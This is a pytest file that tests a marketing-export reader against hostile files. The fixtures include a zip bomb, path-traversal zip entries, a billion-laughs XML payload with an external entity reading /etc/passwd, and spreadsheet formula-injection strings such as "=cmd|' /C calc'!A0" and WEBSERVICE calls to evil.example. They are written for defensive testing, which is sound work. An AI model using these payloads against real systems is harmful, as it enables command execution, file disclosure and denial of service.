"""Files made to do harm, and sources that are no files: refused in words, quickly, and nothing is written or evaluated."""

import io
import os
import time
import zipfile

import pandas as pd
import pytest

from mktlib import exports
from tools import fuzz_exports as fuzz


def refused(source, within=2.0):
    """The message of the ExportError that read() raises in time."""
    begun = time.perf_counter()
    with pytest.raises(exports.ExportError) as caught:
        exports.read(source)
    assert time.perf_counter() - begun < within
    fuzz.check_error(caught.value)
    return str(caught.value)


@pytest.mark.parametrize("source", [None, 5, 1.5, [], {}, pd.DataFrame({"Clicks": [1]}), object()])
def test_what_is_no_file(source):
    assert "is no file" in refused(source)


def test_missing_path_and_folder(tmp_path):
    assert "cannot be opened" in refused(tmp_path / "none.csv")
    assert "cannot be opened" in refused(tmp_path)
    assert "cannot be opened" in refused(str(tmp_path))


def test_sparse_file_of_two_gigabytes(tmp_path):
    path = tmp_path / "big.csv"
    path.touch()
    os.truncate(path, 2_000_000_000)
    assert "2,000 MB" in refused(path, within=1.0)


def test_ways_to_give_a_file(tmp_path):
    path = tmp_path / "百度 关键词.csv"
    path.write_text(fuzz.baidu(), encoding="utf-8")
    wanted = exports.read(fuzz.baidu().encode())
    with path.open(encoding="utf-8") as text, path.open("rb") as binary:
        for source in (
            path,
            str(path),
            text,
            binary,
            io.StringIO(fuzz.baidu()),
            io.BytesIO(fuzz.baidu().encode()),
        ):
            pd.testing.assert_frame_equal(exports.read(source), wanted)


def test_zip_with_paths_writes_nothing(tmp_path, monkeypatch):
    inside = tmp_path / "inside"
    inside.mkdir()
    monkeypatch.chdir(inside)
    for name in ("../../x.csv", "/tmp/evil_export.csv", "..\\x.csv"):
        assert len(exports.read(fuzz.zipped({name: fuzz.baidu()}))) == 8
    assert [one.name for one in tmp_path.rglob("*")] == ["inside"]


def test_nested_and_encrypted_zips():
    assert "holds no CSV" in refused(fuzz.zipped({"in.zip": fuzz.zipped({"a.csv": fuzz.baidu()})}))
    data = bytearray(fuzz.zipped({"a.csv": fuzz.baidu()}))
    data[6] |= 1
    data[data.index(b"PK\x01\x02") + 8] |= 1
    assert "locked" in refused(bytes(data))


def test_formulas_are_texts():
    text = '日期,推广计划,展现,点击,消费\n2025-05-01,=cmd|\' /C calc\'!A0,10,1,2.5\n2025-05-02,"=WEBSERVICE(""http://x.example"")",20,2,3.5\n'
    frame = exports.read(text.encode())
    assert list(frame["campaign"]) == ["cmd|' /C calc'!A0", "WEBSERVICE(http://x.example)"]
    assert frame["cost"].sum() == 6.0


def test_zip_bomb(monkeypatch):
    kept = io.BytesIO()
    with (
        zipfile.ZipFile(kept, "w", zipfile.ZIP_DEFLATED) as pack,
        pack.open("a.csv", "w", force_zip64=True) as member,
    ):
        for _ in range(60):
            member.write(bytes(10_000_000))
    assert "unpacks to more than" in refused(kept.getvalue(), within=10)


def workbook(cells, extra=""):
    """An .xlsx whose one sheet has the given XML cells; nothing else checks what they claim."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as pack:
        pack.writestr("[Content_Types].xml", CONTENT_TYPES)
        pack.writestr("_rels/.rels", RELATIONS.format("officeDocument", "xl/workbook.xml"))
        pack.writestr("xl/workbook.xml", WORKBOOK)
        pack.writestr("xl/_rels/workbook.xml.rels", RELATIONS.format("worksheet", "worksheets/sheet1.xml"))
        pack.writestr("xl/worksheets/sheet1.xml", extra + SHEET.format(cells))
    return out.getvalue()


MAIN = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
PACKAGE = "http://schemas.openxmlformats.org/package/2006"
CONTENT_TYPES = (
    f'<Types xmlns="{PACKAGE}/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.'
    'relationships+xml"/><Default Extension="xml" ContentType="application/xml"/></Types>'
)
RELATIONS = f'<Relationships xmlns="{PACKAGE}/relationships"><Relationship Id="r1" Type="{OFFICE}/{{}}" Target="{{}}"/></Relationships>'
WORKBOOK = f'<workbook xmlns="{MAIN}" xmlns:r="{OFFICE}"><sheets><sheet name="a" sheetId="1" r:id="r1"/></sheets></workbook>'
SHEET = f'<worksheet xmlns="{MAIN}"><sheetData>{{}}</sheetData></worksheet>'
HEADER = "".join(
    f'<c r="{place}1" t="inlineStr"><is><t>{name}</t></is></c>'
    for place, name in zip("ABCD", ["日期", "推广计划", "展现", "消费"], strict=True)
)
ROW = (
    '<row r="2"><c r="A2" t="inlineStr"><is><t>2025-05-01</t></is></c><c r="B2" t="inlineStr"><is><t>{}</t></is></c>'
    '<c r="C2"><v>5</v></c><c r="D2">{}</c></row>'
)


def test_a_small_workbook_written_by_hand_is_read():
    frame = exports.read(workbook(f'<row r="1">{HEADER}</row>' + ROW.format("a", "<v>2.5</v>")))
    assert frame["cost"].tolist() == [2.5] and frame["impressions"].tolist() == [5]


def test_a_formula_is_not_evaluated_its_last_value_is_taken():
    cell = '<f>WEBSERVICE("http://evil.example/")&amp;1/0</f><v>7</v>'
    frame = exports.read(workbook(f'<row r="1">{HEADER}</row>' + ROW.format("=cmd|' /C calc'!A0", cell)))
    assert frame["cost"].tolist() == [7.0] and "cmd" in frame["campaign"][0]


@pytest.mark.parametrize("corner", ["XFD1048576", "xfd1048576", "A99999999", "XF&#68;1048576"])
def test_a_cell_in_the_last_corner_is_refused_before_room_is_made_for_all_between(corner):
    far = f'<row r="1">{HEADER}</row><row><c r="{corner}"><v>1</v></c></row>'
    begun = time.perf_counter()
    with pytest.raises(exports.ExportError, match=r"reaches to row|hides where"):
        exports.read(workbook(far))
    assert time.perf_counter() - begun < 2


def test_entities_of_a_workbook_are_not_unfolded():
    laughs = '<!DOCTYPE x [<!ENTITY a "ha"><!ENTITY b "' + "&a;" * 50 + '"><!ENTITY c "' + "&b;" * 50 + '">'
    laughs += (
        '<!ENTITY d "'
        + "&c;" * 50
        + '"><!ENTITY e "'
        + "&d;" * 50
        + '"><!ENTITY f SYSTEM "file:///etc/passwd">]>'
    )
    book = workbook(f'<row r="1">{HEADER}</row>' + ROW.format("&e;&f;", "<v>1</v>"), extra=laughs)
    try:
        text = exports.read(book).to_csv()
    except exports.ExportError:
        return
    assert len(text) < 1000 and "root:" not in text


def test_a_zip_that_lies_about_its_sizes_is_refused():
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as pack:
        pack.writestr(
            "Queries.csv", "Top queries,Clicks,Impressions,CTR,Position\na,1,2,50%,1\n" + " " * 100_000
        )
    data = bytearray(out.getvalue())
    for mark, offset in ((b"PK\x03\x04", 22), (b"PK\x01\x02", 24)):
        at = data.index(mark) + offset
        data[at : at + 4] = (10).to_bytes(4, "little")
    with pytest.raises(exports.ExportError, match="damaged"):
        exports.read(bytes(data))


def test_a_source_that_never_ends_is_refused(monkeypatch):
    class Endless:
        def read(self, size):
            return b"a" * size

    monkeypatch.setattr("mktlib.exports.intake.LIMIT", 1_000_000)
    with pytest.raises(exports.ExportError, match="files up to 1 MB are read"):
        exports.read(Endless())


def test_an_old_workbook_whose_sectors_run_in_a_circle_is_refused():
    data = bytearray(fuzz.old_workbook())
    size = 1 << int.from_bytes(data[30:32], "little")
    table, directory = (int.from_bytes(data[at : at + 4], "little") for at in (76, 48))
    entry = (table + 1) * size + 4 * directory
    data[entry : entry + 4] = directory.to_bytes(4, "little")  # the directory follows itself
    assert "Excel file cannot be read" in refused(bytes(data))


def test_a_file_whose_lines_ran_together_is_refused_by_its_number_of_columns():
    lines = "".join(f"2025-05-{n % 31 + 1:02d},a,10,2,3.5:" for n in range(1_000))
    assert "columns; a report has at most" in refused(f"日期,推广计划,展现,点击,消费:{lines}".encode())
